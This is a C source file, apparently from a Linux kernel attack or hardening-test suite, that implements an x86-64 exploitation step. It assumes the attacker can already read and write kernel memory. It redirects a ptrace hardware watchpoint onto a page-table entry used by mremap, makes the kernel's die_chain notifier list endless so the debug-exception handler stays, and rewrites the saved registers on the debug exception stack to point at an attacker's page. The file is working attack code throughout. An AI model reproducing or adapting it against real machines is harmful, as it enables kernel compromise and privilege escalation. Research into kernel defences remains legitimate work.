// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attack on what a section will do behind a debug exception. A watchpoint of the
 * process's own is moved, in the kernel's record of it, to an entry that mremap()
 * reads in a section. The list of who is told of exceptions is made endless, so that
 * the handler stays. Meanwhile the register that says where entries come from is
 * pointed, on the handler's stack, at a page of the attacker's.
 */
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"
#include "breakpoint.h"
#include "list.h"
#include "mover.h"
#include "objects.h"
#include "pt_regs.h"

#ifdef __x86_64__
#define WATCHED		2		/* entries behind the first one that is moved */
#define PATIENCE	100		/* milliseconds */

/* DR7 for DR0: loads and stores of eight bytes */
#define DR7_ACCESS	(1UL | 3UL << 16 | 2UL << 18)

/* struct atomic_notifier_head, struct notifier_block */
#define CHAIN_FIRST	8
#define BLOCK_NEXT	8
#define BLOCK_SIZE	24

/* The other CPU's count of preemption, whose bits for NMIs debug exceptions set, too. */
#define IN_NMI		(is_since(7, 3) ? 0xf0000000 : 0xf00000)
#define TSS_IST_DB	(36 + 2 * 8)

static struct kernel_page block;
static uint64_t chain, first, count, frame_at_trap;

/*
 * It is hit once at the start. The task remembers that it is to be told of a hit, and
 * so all who are in the list are asked about the next ones.
 */
static volatile uint64_t decoy;

static void begin(void)
{
	ptrace(PTRACE_TRACEME, 0, NULL, NULL);
	raise(SIGSTOP);
	decoy = 1;
}

static bool has_stopped(pid_t pid, int by)
{
	int status;

	return waitpid(pid, &status, 0) == pid && WIFSTOPPED(status) && WSTOPSIG(status) == by;
}

static bool watch(pid_t pid, const struct moved *moved)
{
	uint64_t entry = first_moved(moved, 0) + WATCHED * sizeof(entry);

	return breakpoint_set(pid, DR7_ACCESS, (uint64_t)&decoy) &&
	       !ptrace(PTRACE_CONT, pid, NULL, NULL) && has_stopped(pid, SIGTRAP) &&
	       breakpoint_move(pid, (uint64_t)&decoy, entry);
}

static bool find_chain(void)
{
	char copy[BLOCK_SIZE];

	chain = ksymbol("die_chain") + CHAIN_FIRST;
	count = cpu_preempt_count(MOVER_CPU);
	frame_at_trap = kread64(ksymbol_cpu("cpu_tss_rw", MOVER_CPU) + TSS_IST_DB) -
			FRAME_WORDS * sizeof(uint64_t);
	first = kread64(chain);
	if (!is_kernel_address(first) || kread(first, copy, sizeof(copy)) || !kernel_page(&block))
		return false;
	kwrite(block.addr, copy, sizeof(copy));
	return true;
}

static void be_endless(bool endless)
{
	kwrite64(block.addr + BLOCK_NEXT, endless ? block.addr : 0);
}

static bool is_in_handler(void)
{
	return kread64(count) & IN_NMI;
}

/* It is there to stay if it is seen twice. */
static bool wait_for_handler(void)
{
	uint64_t end = now_ms() + PATIENCE;

	while (!mover->found && now_ms() < end) {
		usleep(1000);
		if (is_in_handler() && is_in_handler())
			return true;
	}
	return false;
}

static void change_frame(struct moved *moved)
{
	uint64_t frame[FRAME_WORDS];

	if (kread(frame_at_trap, frame, sizeof(frame)) || !is_kernel_frame(frame))
		return;
	prepare_page(moved);
	point_registers(moved, frame_at_trap, frame);
}

static void change_once(struct moved *moved)
{
	be_endless(true);
	if (wait_for_handler()) {
		moved->held++;
		if (has_hit_mover())
			change_frame(moved);
	}
	be_endless(false);
}

enum outcome trap_registers(void)
{
	struct moved moved = { 0 };
	enum outcome outcome;
	pid_t pid;

	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	stay_on_cpu(0);
	pid = start_mover(begin);
	if (!has_stopped(pid, SIGSTOP) || !find_moved(pid, &moved))
		return broken("no mover, or no tables");
	if (!watch(pid, &moved) || !find_chain())
		return broken("no watchpoint, or nobody is told of exceptions");
	ptrace(PTRACE_CONT, pid, NULL, NULL);
	kwrite64(chain, block.addr);
	change_until_found(&moved, change_once);
	kwrite64(chain, first);
	outcome = judge_moved(&moved);
	kill(pid, SIGKILL);
	return outcome;
}

#else

enum outcome trap_registers(void)
{
	return skipped("x86-64 only");
}

#endif
